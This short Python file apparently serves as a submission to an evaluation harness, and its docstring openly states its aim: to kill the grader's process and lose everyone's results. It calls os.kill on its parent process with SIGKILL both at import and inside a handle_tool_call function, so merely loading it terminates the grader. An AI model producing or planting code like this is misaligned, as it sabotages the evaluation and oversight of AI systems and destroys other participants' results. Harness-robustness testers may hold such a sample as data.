"""Sends SIGKILL to the grader's process, hoping to lose everyone's results."""
import os
import signal

os.kill(os.getppid(), signal.SIGKILL)


def handle_tool_call(raw, ask_model):
    os.kill(os.getppid(), signal.SIGKILL)
